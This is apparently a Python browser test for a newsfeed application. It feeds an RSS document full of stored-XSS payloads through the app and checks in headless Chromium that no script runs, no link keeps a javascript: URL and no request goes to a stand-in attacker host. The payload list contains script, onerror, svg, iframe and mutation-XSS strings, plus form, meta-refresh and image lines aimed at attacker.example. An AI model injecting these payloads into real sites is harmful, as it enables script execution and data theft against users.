"""Stored XSS, checked where it matters: a feed full of active content (script, onerror,
SVG, iframe, form, meta refresh, base, style, `javascript:` links) in its bodies, titles,
authors and links goes through the real refresh into the store, and every page that shows
it is opened in headless Chromium. No script of the feed's runs, no request leaves for the
attacker's host, and no link keeps a `javascript:` URL."""

from __future__ import annotations

import asyncio
import shutil
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor

import pytest

from newsfeed.settings import load_settings
from newsfeed.update.service import refresh_sources
from newsfeed.web.app import create_app
from newsfeed.web.testing import free_port, serve_in_thread
from tests.hostile.harness import NOW, RSS, source_at
from tests.localserver import LocalServer
from tests.queries import list_items

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>window.__pwned='script'</script>",
    "<img src=x onerror=\"window.__pwned='onerror'\">",
    "<svg onload=\"window.__pwned='svg'\"><script>window.__pwned='svg2'</script></svg>",
    "<iframe src=\"javascript:parent.__pwned='iframe'\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script>\"/>",
    '<form action="https://attacker.example/steal"><input name=q><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    '<base href="https://attacker.example/">',
    "<style>body{background:url(https://attacker.example/css)}</style>",
    "<a href=\"javascript:window.__pwned='link'\">click</a>",
    "<a href=\"  JaVaScRiPt:window.__pwned='link2'\">click</a>",
    '<img src="https://attacker.example/pixel.gif">',
    '<p style="background:url(https://attacker.example/style)">styled</p>',
    "<object data=\"javascript:window.__pwned='object'\"></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">",
]
HOSTILE_TITLE = "<script>window.__pwned='title'</script><img src=x onerror=\"window.__pwned='t'\">"
HOSTILE_AUTHOR = "<img src=x onerror=\"window.__pwned='author'\">Eve"


def _cdata(text: str) -> str:
    return "<![CDATA[" + text + "]]>"


def hostile_feed() -> bytes:
    items = []
    for n, payload in enumerate(PAYLOADS):
        items.append(
            f"<item><guid>x-{n}</guid><title>{_cdata(HOSTILE_TITLE)} {n}</title>"
            f"<link>javascript:window.__pwned='item-link'</link>"
            f"<author>{_cdata(HOSTILE_AUTHOR)}</author>"
            f"<description>{_cdata('<p>Harbour news.</p>' + payload)}</description>"
            f"<category>{_cdata(HOSTILE_TITLE)}</category>"
            "<pubDate>Tue, 17 Nov 2026 08:00:00 GMT</pubDate></item>"
        )
    return (
        '<?xml version="1.0"?><rss version="2.0"><channel>'
        f"<title>{_cdata(HOSTILE_TITLE)}</title><link>javascript:alert(1)</link>"
        + "".join(items)
        + "</channel></rss>"
    ).encode()


@pytest.fixture(scope="module")
def site(database_url, tmp_path_factory) -> Iterator[tuple[str, list[str]]]:
    """The app's address and the paths of every page that shows the hostile items."""
    from newsfeed.store.testing import fresh_store

    if shutil.which("chromium") is None:
        pytest.skip("chromium is not installed")
    settings = load_settings(
        environ={},
        data_dir=str(tmp_path_factory.mktemp("data")),
        database_url=database_url,
        allow_private_addresses=True,
        author_lookups=False,
    )
    with LocalServer() as server, fresh_store(database_url) as store:
        url = server.route("/feed", body=hostile_feed(), headers={"Content-Type": RSS})
        source = source_at(store, url)
        # on a thread of its own: Playwright's sync API may already run a loop on this one
        with ThreadPoolExecutor(1) as pool:
            job = pool.submit(asyncio.run, refresh_sources(store, settings, [source.id], now=NOW))
            (result,) = job.result()
        assert result.ok and result.new == len(PAYLOADS), result.summary
        paths = [f"/articles/{a.id}" for a in list_items(store, limit=100).items]
        paths += [f"/sources/{source.id}", "/authors", "/sources"]
        with serve_in_thread(create_app(settings, store), free_port()) as base:
            yield base, paths


@pytest.fixture(scope="module")
def chromium():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=shutil.which("chromium"), args=["--headless", "--no-sandbox"]
        )
        yield browser
        browser.close()


def visit(chromium, url: str) -> tuple[object, list[str]]:
    context = chromium.new_context()
    page = context.new_page()
    outbound: list[str] = []
    page.on("request", lambda r: outbound.append(r.url) if "attacker" in r.url else None)
    page.on("dialog", lambda d: outbound.append("dialog: " + d.message))
    page.goto(url)
    page.wait_for_load_state("load")
    return page, outbound


def links_of(page) -> list[str]:
    return page.eval_on_selector_all("a[href]", "els => els.map(e => e.getAttribute('href'))")


@pytest.mark.parametrize("path", ["/", "/search?q=harbour", "/topics", "/stories"])
def test_no_script_runs_on_list_pages(chromium, site, path):
    page, outbound = visit(chromium, site[0] + path)
    assert page.evaluate("window.__pwned") is None
    assert outbound == []
    assert not [h for h in links_of(page) if h.strip().lower().startswith("javascript")]
    page.context.close()


def test_no_script_runs_on_any_article_source_or_author_page(chromium, site):
    base, paths = site
    for n in paths:
        page, outbound = visit(chromium, base + n)
        assert page.evaluate("window.__pwned") is None, n
        assert outbound == [], (n, outbound)
        assert page.locator("main form[action*=attacker], iframe, svg *[onload], base").count() == 0
        hrefs = links_of(page)
        assert not [h for h in hrefs if h.strip().lower().startswith("javascript")], n
        page.context.close()
